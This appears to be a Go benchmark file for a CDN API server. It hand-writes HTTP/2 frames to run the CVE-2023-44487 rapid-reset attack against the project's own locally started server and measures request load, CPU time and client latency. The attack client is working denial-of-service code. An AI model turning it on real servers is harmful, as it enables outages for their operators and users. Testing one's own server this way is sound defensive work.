package main

import (
	"bufio"
	"cmp"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
)

// The HTTP/2 frames a rapid-reset client needs, written by hand: the
// attack is a few bytes per request, and golang.org/x/net is not one of
// the module's dependencies (serve speaks h2c through net/http itself).
const (
	frameHeaders   = 0x1
	frameRSTStream = 0x3
	frameSettings  = 0x4
	framePing      = 0x6
	frameGoAway    = 0x7

	flagEndStream  = 0x1
	flagAck        = 0x1
	flagEndHeaders = 0x4

	codeCancel = 0x8
)

// appendFrame appends one HTTP/2 frame (RFC 9113, section 4.1).
func appendFrame(b []byte, typ, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	b = append(b, byte(n>>16), byte(n>>8), byte(n), typ, flags)
	b = binary.BigEndian.AppendUint32(b, stream&0x7fffffff)
	return append(b, payload...)
}

// appendHPACKInt appends an HPACK integer with an n-bit prefix whose high
// bits are first (RFC 7541, section 5.1).
func appendHPACKInt(b []byte, first byte, n uint, v int) []byte {
	max := 1<<n - 1
	if v < max {
		return append(b, first|byte(v))
	}
	b = append(b, first|byte(max))
	for v -= max; v >= 128; v >>= 7 {
		b = append(b, byte(v&0x7f|0x80))
	}
	return append(b, byte(v))
}

// hpackGET is the header block of GET path on host, with an Authorization
// header when key is set: static-table names and literal values, never
// indexed, so that every block is the same bytes and needs no state.
func hpackGET(host, path, key string) []byte {
	b := []byte{0x82, 0x86} // :method GET, :scheme http
	literal := func(index int, value string) {
		b = appendHPACKInt(b, 0x00, 4, index) // literal without indexing, indexed name
		b = appendHPACKInt(b, 0x00, 7, len(value))
		b = append(b, value...)
	}
	literal(1, host) // :authority
	literal(4, path) // :path
	if key != "" {
		literal(23, "Bearer "+key) // authorization
	}
	return b
}

// resetResult is what one rapid-reset connection saw.
type resetResult struct {
	sent      int    // HEADERS+RST_STREAM pairs written before the server stopped reading
	answers   int    // HEADERS frames the server sent back: answers begun before the reset
	goAway    string // the GOAWAY's error code, "" when there was none
	closed    bool   // the server ended the connection (GOAWAY or EOF) before the client did
	readError error  // what ended the reading, other than EOF
}

// rapidReset opens one h2c connection to addr (host:port) and writes pairs
// HEADERS+RST_STREAM pairs for path on it, rate pairs a second or as fast
// as the socket takes them (rate 0), each request cancelled as soon as it
// is sent: the attack of
// CVE-2023-44487. It then waits, at most until deadline, for the server to
// end the connection or go quiet for a second, and reports what it saw.
func rapidReset(addr, path, key string, pairs, rate int, deadline time.Time) resetResult {
	var r resetResult
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		r.readError = err
		return r
	}
	defer conn.Close()
	conn.SetDeadline(deadline)

	var mu sync.Mutex // guards writes: the reader acknowledges SETTINGS
	write := func(b []byte) error {
		mu.Lock()
		defer mu.Unlock()
		_, err := conn.Write(b)
		return err
	}
	readDone, pinged := make(chan struct{}), make(chan struct{})
	go func() {
		defer close(readDone)
		br := bufio.NewReaderSize(conn, 64<<10)
		var h [9]byte
		for {
			if _, err := io.ReadFull(br, h[:]); err != nil {
				if errors.Is(err, io.EOF) || errors.Is(err, net.ErrClosed) || isConnReset(err) {
					r.closed = r.closed || !errors.Is(err, net.ErrClosed)
				} else {
					r.readError = err
				}
				return
			}
			n := int(h[0])<<16 | int(h[1])<<8 | int(h[2])
			payload := make([]byte, n)
			if _, err := io.ReadFull(br, payload); err != nil {
				r.closed = true
				return
			}
			switch h[3] {
			case frameHeaders:
				r.answers++
			case frameSettings:
				if h[4]&flagAck == 0 {
					write(appendFrame(nil, frameSettings, flagAck, 0, nil))
				}
			case framePing:
				if h[4]&flagAck != 0 {
					close(pinged)
				}
			case frameGoAway:
				if len(payload) >= 8 {
					r.goAway = http2ErrCodeName(binary.BigEndian.Uint32(payload[4:8]))
				}
				r.closed = true
			}
		}
	}()

	if write(append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), appendFrame(nil, frameSettings, 0, 0, nil)...)) != nil {
		<-readDone
		return r
	}
	block := hpackGET(addr, path, key)
	rst := binary.BigEndian.AppendUint32(nil, codeCancel)
	// At full speed, a hundred pairs per write: the attack is in how fast
	// requests come, and one write a pair would measure the client's
	// system calls. Paced, a batch every 10 ms.
	batch, tick := 100, (<-chan time.Time)(nil)
	if rate > 0 {
		batch = max(1, rate/100)
		t := time.NewTicker(10 * time.Millisecond)
		defer t.Stop()
		tick = t.C
	}
	var buf []byte
	for stream := uint32(1); r.sent < pairs; {
		if tick != nil {
			<-tick
		}
		buf = buf[:0]
		n := min(batch, pairs-r.sent)
		for range n {
			buf = appendFrame(buf, frameHeaders, flagEndStream|flagEndHeaders, stream, block)
			buf = appendFrame(buf, frameRSTStream, 0, stream, rst)
			stream += 2
		}
		if write(buf) != nil {
			break // the server closed the connection
		}
		r.sent += n
	}
	// A PING is answered only once every frame before it has been read:
	// then the server has seen every pair.
	write(appendFrame(nil, framePing, 0, 0, make([]byte, 8)))
	select {
	case <-readDone:
	case <-pinged:
	case <-time.After(time.Until(deadline)):
	}
	conn.Close()
	<-readDone
	return r
}

func isConnReset(err error) bool {
	return strings.Contains(err.Error(), "connection reset by peer")
}

// http2ErrCodeName names an HTTP/2 error code as RFC 9113 does.
func http2ErrCodeName(code uint32) string {
	names := []string{"NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
		"STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR",
		"ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"}
	if int(code) < len(names) {
		return names[code]
	}
	return fmt.Sprintf("0x%x", code)
}

// metricSum sums the samples of a metric on serve's admin address whose
// labels contain each of labels.
func metricSum(tb testing.TB, admin, name string, labels ...string) float64 {
	tb.Helper()
	res, err := http.Get(admin + "/metrics")
	if err != nil {
		tb.Fatal(err)
	}
	defer res.Body.Close()
	total := 0.0
	lines := bufio.NewScanner(res.Body)
	lines.Buffer(nil, 1<<20)
next:
	for lines.Scan() {
		line := lines.Text()
		if !strings.HasPrefix(line, name+"{") && !strings.HasPrefix(line, name+" ") {
			continue
		}
		for _, l := range labels {
			if !strings.Contains(line, l) {
				continue next
			}
		}
		v, err := strconv.ParseFloat(line[strings.LastIndexByte(line, ' ')+1:], 64)
		if err != nil {
			tb.Fatalf("metrics line %q", line)
		}
		total += v
	}
	return total
}

// cpuSeconds is the CPU time, user and system, that process pid has used.
func cpuSeconds(tb testing.TB, pid int) float64 {
	f := procStat(strconv.Itoa(pid))
	if len(f) < 15 {
		tb.Fatalf("/proc/%d/stat: %v", pid, f)
	}
	u, _ := strconv.ParseFloat(f[13], 64)
	s, _ := strconv.ParseFloat(f[14], 64)
	return (u + s) / 100 // USER_HZ
}

// BenchmarkRapidReset is the rapid-reset attack of issue 36 on the real
// program over h2c: RESET_CONNS connections (default 12) of RESET_PAIRS
// HEADERS+RST_STREAM pairs each (default 100,000), for RESET_PATH
// (default a keyed page of 100 files; with RESET_KEY=0 no key is sent, and
// a page answers 401 at once), as fast as they go or RESET_RATE pairs a
// second on each connection, against `serve --auth required` running as a process of its own,
// while keyed clients read pages of files beside it. It reports the
// requests serve ran for the attack (cdnapi_http_requests_total, less the
// keyed clients' own), its CPU time (from
// /proc), what ended each connection, and the keyed clients' p99 before
// and during the attack. The machine is shared: compare the ratios.
//
//	go test ./cmd/cdnapi -run '^$' -bench BenchmarkRapidReset -benchtime 1x
func BenchmarkRapidReset(b *testing.B) {
	conns, pairs, rate := envInt("RESET_CONNS", 12), envInt("RESET_PAIRS", 100_000), envInt("RESET_RATE", 0)
	db := "sqlite:" + filepath.Join(b.TempDir(), "reset.db")
	mustRunCmd(b, "", "seed", "--files", "500", "--assets", "100", "--db", db)
	var keys []string
	for range 5 {
		key, _ := mustRunCmd(b, "", "keys", "create", "--project", "default", "--db", db)
		keys = append(keys, strings.TrimSpace(key))
	}
	attackKey, keys := keys[0], keys[1:]
	if os.Getenv("RESET_KEY") == "0" {
		attackKey = ""
	}
	path := cmp.Or(os.Getenv("RESET_PATH"), "/api/v1/files?limit=100")
	s := startChildren(b, 1, "--db", db, "--auth", "required")[0]
	api := strings.TrimPrefix(s.api, "http://")
	for range b.N {
		quiet := keyedP99(b, s.api, keys, "", 0)

		requests0 := metricSum(b, s.admin, "cdnapi_http_requests_total", `listener="api"`)
		cpu0, start := cpuSeconds(b, s.cmd.Process.Pid), time.Now()
		results := make([]resetResult, conns)
		var wg sync.WaitGroup
		for i := range results {
			wg.Go(func() {
				results[i] = rapidReset(api, path, attackKey, pairs, rate, time.Now().Add(5*time.Minute))
			})
		}
		// The keyed clients run for three seconds while the attack runs; if
		// the attack ends sooner, they measure the end of it and after.
		attacked := keyedP99(b, s.api, keys, "", 0)
		wg.Wait()
		// The last handlers may still run: wait for the count to settle.
		ran := -1.0
		for n := metricSum(b, s.admin, "cdnapi_http_requests_total", `listener="api"`); n != ran; {
			ran = n
			time.Sleep(200 * time.Millisecond)
			n = metricSum(b, s.admin, "cdnapi_http_requests_total", `listener="api"`)
		}
		ran -= requests0 + float64(attacked.keyed)
		elapsed := time.Since(start)
		cpu := cpuSeconds(b, s.cmd.Process.Pid) - cpu0

		sent, answers, closed := 0, 0, 0
		ends := map[string]int{}
		for _, r := range results {
			sent += r.sent
			answers += r.answers
			if r.closed {
				closed++
			}
			switch {
			case r.goAway != "":
				ends["GOAWAY "+r.goAway]++
			case r.closed:
				ends["EOF"]++
			case r.readError != nil:
				ends[r.readError.Error()]++
			default:
				ends["client"]++
			}
		}
		b.ReportMetric(float64(sent), "pairs-sent")
		b.ReportMetric(ran, "requests-run")
		b.ReportMetric(cpu, "server-cpu-s")
		b.ReportMetric(float64(closed), "conns-closed")
		b.ReportMetric(float64(quiet.p99.Microseconds())/1000, "p99-ms-quiet")
		b.ReportMetric(float64(attacked.p99.Microseconds())/1000, "p99-ms-attack")
		b.Logf("%d connections × %d pairs of %s (key: %v, pairs/s each: %d, 0 is full speed): %d pairs sent in %v, %.0f requests run, %d answers begun, "+
			"%.1f s of server CPU, connections ended by %v; keyed p99 %v quiet, %v under attack",
			conns, pairs, path, attackKey != "", rate, sent, elapsed.Round(time.Millisecond), ran, answers, cpu, ends, quiet.p99, attacked.p99)
	}
}
